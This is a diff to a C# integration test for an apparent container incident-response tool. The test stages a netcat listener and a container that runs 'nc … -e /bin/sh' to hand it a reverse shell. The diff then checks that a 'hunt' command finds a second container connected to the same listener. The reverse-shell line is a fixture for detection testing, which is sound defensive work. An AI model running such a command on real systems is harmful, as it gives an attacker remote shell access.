@@ -153,7 +153,8 @@ public sealed class VolatileCaptureTests(BusyboxFixture busybox) : IClassFixture
         try
         {
             // The listener keeps its side open (its stdin never ends); the suspect hands it a shell.
-            var listener = await StartAsync("listener", "sleep 3600 | nc -l -p 4444", networks: [network]);
+            // A new listener whenever the last one was taken (a bind fails while one listens), so a second client can connect too.
+            var listener = await StartAsync("listener", "while true; do (sleep 3600 | nc -l -p 4444 &); sleep 0.3; done", networks: [network]);
             ids.Add(listener);
             var listenerIp = await IpAsync(listener, network);
             var suspect = await StartAsync("revshell", $"(until nc {listenerIp} 4444 -e /bin/sh; do sleep 0.2; done) & exec sleep 3600", networks: [network]);
@@ -180,6 +181,31 @@ public sealed class VolatileCaptureTests(BusyboxFixture busybox) : IClassFixture
             Assert.Contains($"{listenerIp}:4444", finding.GetProperty("why").GetString(), StringComparison.Ordinal);
             // A private peer is not "out to the internet".
             Assert.Empty(Findings(caseDir, "process.outbound-public"));
+
+            // Where else? Another container connected to the same listener is found by its connection; one that is not, is not.
+            var other = await StartAsync("peer", $"sleep 3600 | nc {listenerIp} 4444", networks: [network]);
+            ids.Add(other);
+            var quiet = await StartAsync("quiet", "exec sleep 3600", networks: [network]);
+            ids.Add(quiet);
+            await WaitForProcessAsync(other, $"nc {listenerIp} 4444");
+            JsonElement hunted = default;
+            for (var i = 0; i < 50; i++)
+            {
+                var hunt = await ProcessRunner.DockerIRAsync(["hunt", "--case", caseDir, other, quiet, "--json"]);
+                CliAssert.Success(hunt);
+                hunted = JsonDocument.Parse(hunt.StdOut).RootElement.Clone();
+                if (hunted.GetProperty("targets").GetArrayLength() > 0)
+                {
+                    break;
+                }
+
+                await Task.Delay(200); // the client connects once the listener is back
+            }
+
+            Assert.Equal([other], hunted.GetProperty("targets").EnumerateArray().Select(t => t.GetString()!).ToList());
+            var peer = Assert.Single(hunted.GetProperty("containers")[0].GetProperty("matches").EnumerateArray());
+            Assert.Equal("peer", peer.GetProperty("kind").GetString());
+            Assert.Contains($"-> {listenerIp}:4444", peer.GetProperty("detail").GetString(), StringComparison.Ordinal);
         }
         finally
         {
